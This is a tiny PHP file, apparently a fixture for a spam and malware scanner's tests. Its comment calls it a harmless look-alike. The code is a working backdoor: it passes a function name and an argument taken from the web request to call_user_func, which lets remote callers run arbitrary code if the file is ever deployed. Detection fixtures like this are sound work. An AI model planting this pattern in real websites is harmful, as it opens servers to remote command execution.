<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$job = array('f' => $_REQUEST['f'], 'a' => $_REQUEST['a']);
call_user_func($job['f'], $job['a']);
